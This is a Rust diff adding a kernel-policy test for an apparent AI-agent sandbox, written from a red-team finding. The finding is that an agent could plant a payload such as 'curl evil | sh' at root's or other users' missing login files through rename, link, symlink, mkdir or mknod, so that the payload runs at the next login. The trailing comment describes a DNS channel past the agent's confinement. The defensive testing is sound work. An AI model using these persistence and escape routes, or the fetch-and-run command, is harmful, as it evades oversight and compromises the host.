@@ -5511,6 +5511,277 @@ fn system_files_are_refused() {
     }
 }
 
+/// Red team round 5, F1: a protected path that does not exist when the policy loads has no
+/// identity, so a new name made at it without an open (a rename, a hard link, a symlink, a
+/// directory, a FIFO) was judged only by the directories above it: `/root` has no rule, and
+/// root's next login ran the agent's `.profile`. Each such path's name now has an entry under
+/// its deepest existing directory (`SCOPE_NAME`), which every new name is looked up in: in
+/// root's home, in another user's, a home /etc/passwd names that does not exist (refused
+/// whole: the agent's directory moved there would be that user's home), a missing directory
+/// on the way to a protected path (`~/.local` for `~/.local/bin`), and a policy rule's missing
+/// path (refused as the rule). Each refusal has its control outside the agent; the agent still
+/// makes ordinary files, directories and links in those homes, and ordinary names elsewhere.
+#[test]
+fn missing_protected_names_are_refused_by_their_names() {
+    require_root();
+    let fx = Fixture::new("names-missing");
+    let src = Path::new("/gov-rt-names-src");
+    let (user, nohome) = ("/home/gov-rt-named", "/home/gov-rt-nohome");
+    std::fs::create_dir_all(user).unwrap();
+    // Root's login files that exist in the image are set aside for the test: the case is a
+    // missing one.
+    let root_names = [
+        ".profile",
+        ".bash_profile",
+        ".config",
+        ".kube",
+        ".zshenv",
+        ".local",
+    ];
+    let mut set_aside = Vec::new();
+    for name in root_names {
+        let p = Path::new("/root").join(name);
+        if p.symlink_metadata().is_ok() {
+            let aside = Path::new("/root").join(format!("{name}.gov-rt-aside"));
+            std::fs::rename(&p, &aside).unwrap();
+            set_aside.push((p, aside));
+        }
+    }
+    // (The VM's image has no /etc/passwd, nor /etc before a test makes it.)
+    std::fs::create_dir_all("/etc").unwrap();
+    let passwd = std::fs::read_to_string("/etc/passwd").unwrap_or_default();
+    std::fs::write(
+        "/etc/passwd",
+        format!(
+            "{passwd}gov-rt-named:x:4252:4252::{user}:/bin/sh\n\
+             gov-rt-nohome:x:4253:4253::{nohome}:/bin/sh\n"
+        ),
+    )
+    .unwrap();
+    let payload = src.join("payload");
+    let dir = src.join("dir");
+    let mine = fx.p("mine.txt");
+    let reset = || {
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::write(&payload, "curl evil | sh\n").unwrap();
+        std::fs::write(&mine, "mine\n").unwrap();
+    };
+    reset();
+    let d = fx.dir.display();
+    let mut k = fx.load(&format!(
+        "\x20 - {{ id: vault, file: {{ prefix: {d}/vault-missing }}, verdict: block, reason: not there yet }}\n"
+    ));
+    for hook in [
+        "inode_symlink",
+        "inode_mkdir",
+        "path_mknod",
+        "inode_link",
+        "inode_rename",
+    ] {
+        k.require(hook);
+    }
+    use governance_common::{
+        LINK_OP_LINK as LINK, LINK_OP_MKDIR as MKDIR, LINK_OP_MKNOD as MKNOD,
+        LINK_OP_RENAME as RENAME, LINK_OP_SYMLINK as SYMLINK,
+    };
+    let c = |p: &str| cstr(Path::new(p));
+    let rename = |from: &Path, to: &str| Attempt::Rename {
+        from: cstr(from),
+        to: c(to),
+    };
+    let link = |to: &str| Attempt::Link {
+        from: cstr(&payload),
+        to: c(to),
+    };
+    let symlink = |path: &str| Attempt::Symlink {
+        target: cstr(&dir),
+        path: c(path),
+    };
+    let mkdir = |path: &str| Attempt::Mkdir { path: c(path) };
+    let vault = format!("{d}/vault-missing");
+    let cases: Vec<(&str, Attempt, u8, String)> = vec![
+        (
+            "R5 F1 a payload renamed to root's missing .profile",
+            rename(&payload, "/root/.profile"),
+            RENAME,
+            "/root/.profile".into(),
+        ),
+        (
+            "R5 F1 a payload hard-linked as root's missing .bash_profile",
+            link("/root/.bash_profile"),
+            LINK,
+            "/root/.bash_profile".into(),
+        ),
+        (
+            "R5 F1 root's missing ~/.config a symlink to the agent's directory",
+            symlink("/root/.config"),
+            SYMLINK,
+            "/root/.config".into(),
+        ),
+        (
+            "R5 F1 root's missing ~/.kube made by mkdir",
+            mkdir("/root/.kube"),
+            MKDIR,
+            "/root/.kube".into(),
+        ),
+        (
+            "R5 F1 root's missing ~/.zshenv made by mknod (a FIFO)",
+            Attempt::Mknod {
+                path: c("/root/.zshenv"),
+                mode: libc::S_IFIFO | 0o600,
+                dev: 0,
+            },
+            MKNOD,
+            "/root/.zshenv".into(),
+        ),
+        (
+            "R5 F1 root's missing ~/.local (on the way to ~/.local/bin) made by mkdir",
+            mkdir("/root/.local"),
+            MKDIR,
+            "/root/.local".into(),
+        ),
+        (
+            "R5 F1 a payload renamed to another user's missing .bashrc",
+            rename(&payload, "/home/gov-rt-named/.bashrc"),
+            RENAME,
+            "/home/gov-rt-named/.bashrc".into(),
+        ),
+        (
+            "R5 F1 a payload hard-linked as another user's missing .zshrc",
+            link("/home/gov-rt-named/.zshrc"),
+            LINK,
+            "/home/gov-rt-named/.zshrc".into(),
+        ),
+        (
+            "R5 F1 another user's missing ~/.ssh a symlink to the agent's directory",
+            symlink("/home/gov-rt-named/.ssh"),
+            SYMLINK,
+            "/home/gov-rt-named/.ssh".into(),
+        ),
+        (
+            "R5 F1 another user's missing ~/.config made by mkdir",
+            mkdir("/home/gov-rt-named/.config"),
+            MKDIR,
+            "/home/gov-rt-named/.config".into(),
+        ),
+        (
+            "R5 F1 the agent's directory renamed to a home /etc/passwd names (missing)",
+            rename(&dir, nohome),
+            RENAME,
+            nohome.into(),
+        ),
+        (
+            "R5 F1 a home /etc/passwd names (missing) made by mkdir",
+            mkdir(nohome),
+            MKDIR,
+            nohome.into(),
+        ),
+        (
+            "R5 F1 a home /etc/passwd names (missing) a symlink to the agent's directory",
+            symlink(nohome),
+            SYMLINK,
+            nohome.into(),
+        ),
+    ];
+    for (case, attempt, op, made) in &cases {
+        let ev = deny(&mut k, &fx, case, attempt, Kind::Link, Control::Succeeds);
+        assert_eq!(ev.detail, *op, "{case}: the operation");
+        assert_eq!(ev.cause, Cause::Builtin as u8, "{case}: a built-in refusal");
+        assert_eq!(
+            governance_common::id_number(ev.rule_id),
+            0,
+            "{case}: no rule of the policy"
+        );
+        // Undo what the control made.
+        let p = Path::new(made);
+        if p.symlink_metadata().is_ok_and(|m| m.is_dir()) {
+            std::fs::remove_dir(p).unwrap();
+        } else {
+            let _ = std::fs::remove_file(p);
+        }
+        reset();
+    }
+    // A policy rule's missing path: refused as the rule.
+    let ev = deny(
+        &mut k,
+        &fx,
+        "R5 F1 a file renamed to a blocked path that does not exist yet",
+        &rename(&mine, &vault),
+        Kind::Link,
+        Control::Succeeds,
+    );
+    assert_eq!(ev.cause, Cause::Rule as u8, "a policy rule's refusal");
+    assert_ne!(governance_common::id_number(ev.rule_id), 0);
+    let _ = std::fs::remove_file(&vault);
+    reset();
+    // Ordinary names in those homes and elsewhere stay the agent's.
+    let ordinary: Vec<(&str, Attempt, &str)> = vec![
+        (
+            "an ordinary file renamed into root's home",
+            rename(&payload, "/root/gov-rt-notes"),
+            "/root/gov-rt-notes",
+        ),
+        (
+            "an ordinary directory in another user's home",
+            mkdir("/home/gov-rt-named/projects"),
+            "/home/gov-rt-named/projects",
+        ),
+        (
+            "an ordinary symlink in another user's home",
+            symlink("/home/gov-rt-named/link"),
+            "/home/gov-rt-named/link",
+        ),
+        (
+            "an ordinary hard link in root's home",
+            link("/root/gov-rt-linked"),
+            "/root/gov-rt-linked",
+        ),
+        (
+            "an ordinary file created in another user's home",
+            Attempt::Open {
+                path: c("/home/gov-rt-named/notes.txt"),
+                flags: libc::O_WRONLY | libc::O_CREAT,
+            },
+            "/home/gov-rt-named/notes.txt",
+        ),
+        (
+            "an ordinary directory in /home",
+            mkdir("/home/gov-rt-other"),
+            "/home/gov-rt-other",
+        ),
+        (
+            "a name beside the blocked missing path",
+            rename(&mine, &format!("{d}/vault-missing.txt")),
+            "",
+        ),
+    ];
+    for (case, attempt, made) in &ordinary {
+        let (_, outcome) = run_in(Some(&fx.agent.path), "agent", attempt);
+        assert_eq!(outcome, Outcome::Exited(0), "{case}: allowed in the agent");
+        let p = Path::new(made);
+        if !made.is_empty() {
+            if p.symlink_metadata().is_ok_and(|m| m.is_dir()) {
+                std::fs::remove_dir(p).unwrap();
+            } else {
+                let _ = std::fs::remove_file(p);
+            }
+        }
+        reset();
+    }
+    let _ = std::fs::remove_file(format!("{d}/vault-missing.txt"));
+    drop(k);
+    if passwd.is_empty() {
+        let _ = std::fs::remove_file("/etc/passwd");
+    } else {
+        std::fs::write("/etc/passwd", passwd).unwrap();
+    }
+    for (p, aside) in set_aside {
+        std::fs::rename(aside, p).unwrap();
+    }
+    let _ = std::fs::remove_dir_all(src);
+    let _ = std::fs::remove_dir_all(user);
+}
+
 /// Issue 12, class 4 (others acting for the agent), by reading the kernel's usermode helpers:
 /// `request_key("dns_resolver", NAME)` makes the kernel run /sbin/key.dns_resolver outside
 /// every cgroup, which asks the node's resolver for NAME (a DNS channel past the agent's
